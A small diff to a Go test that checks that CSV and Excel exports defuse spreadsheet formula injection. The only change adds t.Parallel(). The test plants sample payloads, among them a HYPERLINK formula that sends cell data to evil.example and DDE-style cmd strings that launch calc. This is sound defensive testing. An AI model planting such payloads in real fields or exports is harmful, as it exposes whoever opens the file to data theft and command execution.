@@ -15,6 +15,7 @@ import (
 // leading tab) comes out of every CSV export with a leading apostrophe, and
 // the Excel exports store it as a string, never as a formula.
 func TestExportsNoFormulas(t *testing.T) {
+	t.Parallel()
 	startEach(t, func(t *testing.T, s *server) {
 		planted := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+86-cmd", "-2+3+cmd|x", "\t=1+1"}
 		// A citizen, no login, through the public form's address.
